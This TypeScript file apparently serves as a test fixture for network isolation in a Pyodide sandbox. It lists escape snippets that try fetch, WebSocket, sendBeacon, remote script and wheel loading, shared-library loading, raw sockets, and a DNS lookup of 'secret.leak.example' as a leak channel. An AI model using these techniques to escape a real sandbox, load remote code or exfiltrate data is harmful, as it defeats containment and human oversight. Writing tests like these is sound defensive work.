import type { Escape } from './escape'

export const network: readonly Escape[] = [
  { name: 'js.fetch', code: 'return wait(js.fetch("HOST/a"))' },
  {
    name: 'js.XMLHttpRequest',
    code: 'x = js.XMLHttpRequest.new(); x.open("GET", "HOST/a"); x.send(); return x',
  },
  { name: 'js.WebSocket', code: 'return js.WebSocket.new("HOST".replace("http", "ws"))' },
  { name: 'js.EventSource', code: 'return js.EventSource.new("HOST/a")' },
  { name: 'js.WebTransport', code: 'return js.WebTransport.new("https://127.0.0.1:4433")' },
  { name: 'js.RTCPeerConnection', code: 'return js.RTCPeerConnection.new()' },
  { name: 'js.navigator.sendBeacon', code: 'return js.navigator.sendBeacon("HOST/a", "x")' },
  { name: 'js.importScripts', code: 'return js.importScripts("HOST/a.js")' },
  { name: 'js.Image', code: 'i = js.Image.new(); i.src = "HOST/a.png"; return i' },
  {
    name: 'a font by address',
    code: 'return wait(js.FontFace.new("x", "url(HOST/a.woff2)").load())',
  },
  {
    name: 'pyodide.http.open_url',
    code: 'from pyodide.http import open_url\nreturn open_url("HOST/a")',
  },
  {
    name: 'pyodide.http.pyfetch',
    code: 'from pyodide.http import pyfetch\nreturn wait(pyfetch("HOST/a"))',
  },
  {
    name: 'loadPackage by address',
    code: 'wait(pyodide_js.loadPackage("HOST/a-1-py3-none-any.whl"))',
  },
  {
    name: 'loadPackagesFromImports',
    code: 'wait(pyodide_js.loadPackagesFromImports("import numpy, micropip"))',
  },
  {
    name: 'micropip',
    code: 'import micropip\nreturn wait(micropip.install("HOST/a-1-py3-none-any.whl"))',
  },
  { name: 'the loader of scripts', code: 'return wait(pyodide_js._api.loadScript("HOST/a.js"))' },
  {
    name: 'a module as a data: address',
    code: 'return wait(pyodide_js._api.loadScript("data:text/javascript,fetch(\'HOST/a\')"))',
  },
  { name: 'loadBinaryFile', code: 'return wait(pyodide_js._api.loadBinaryFile("HOST/a"))' },
  {
    name: 'a library loaded by address',
    code: 'return wait(pyodide_js._module.loadDynamicLibrary("HOST/a.so", to_js({"loadAsync": True}, dict_converter=O.fromEntries)))',
  },
  {
    name: 'a preloaded file',
    code: 'pyodide_js.FS.createPreloadedFile("/tmp", "pre", "HOST/a", True, False)',
  },
  {
    name: 'urllib',
    code: 'import urllib.request\nreturn urllib.request.urlopen("HOST/a", timeout=1).read()',
  },
  {
    name: 'http.client',
    code: 'import http.client\nc = http.client.HTTPConnection("HOST"[7:], timeout=1); c.request("GET", "/a"); return c.getresponse()',
  },
  {
    name: 'socket',
    code: 'import socket\ns = socket.create_connection(("127.0.0.1", int("HOST".rsplit(":")[-1])), 1); s.sendall(b"GET /a HTTP/1.0\\r\\n\\r\\n"); return s.recv(9)',
  },
  {
    name: 'a raw _socket, not blocking',
    code: 'import _socket\ns = _socket.socket(2, 1); s.setblocking(False); s.connect(("127.0.0.1", int("HOST".rsplit(":")[-1]))); return s.send(b"x")',
  },
  {
    name: 'ssl',
    code: 'import ssl\nreturn ssl.get_server_certificate(("127.0.0.1", int("HOST".rsplit(":")[-1])), timeout=1)',
  },
  {
    name: 'asyncio.open_connection',
    code: 'import asyncio\nwait(asyncio.wait_for(asyncio.open_connection("127.0.0.1", int("HOST".rsplit(":")[-1])), 1))\nreturn 1',
  },
  { name: 'webbrowser', code: 'import webbrowser\nreturn webbrowser.open("HOST/a")' },
  {
    name: 'getaddrinfo of a name that tells',
    code: 'import socket\nr = socket.getaddrinfo("secret.leak.example", 80); return None',
  },
]
